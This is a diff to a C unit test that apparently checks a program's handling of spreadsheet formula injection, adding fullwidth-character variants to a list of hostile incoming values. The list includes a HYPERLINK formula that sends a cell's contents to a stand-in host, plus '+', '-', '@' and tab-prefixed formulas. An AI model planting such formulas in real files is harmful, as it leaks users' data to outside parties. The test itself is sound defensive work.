@@ -286,7 +286,7 @@ static void
 test_incoming (void)
 {
   static const char *const ids[]
-    = { "=HYPERLINK(\"http://x.test/?\"&A2,\"click\")", "+1", "-1", "@SUM(1,1)", "\t=1" };
+    = { "=HYPERLINK(\"http://x.test/?\"&A2,\"click\")", "+1", "-1", "@SUM(1,1)", "\t=1", "\uFF1D1", "\uFF20SUM(1,1)" };
   g_autoptr (GainPlan) plan = gain_plan_new ();
   g_autoptr (GError) error = NULL;
 
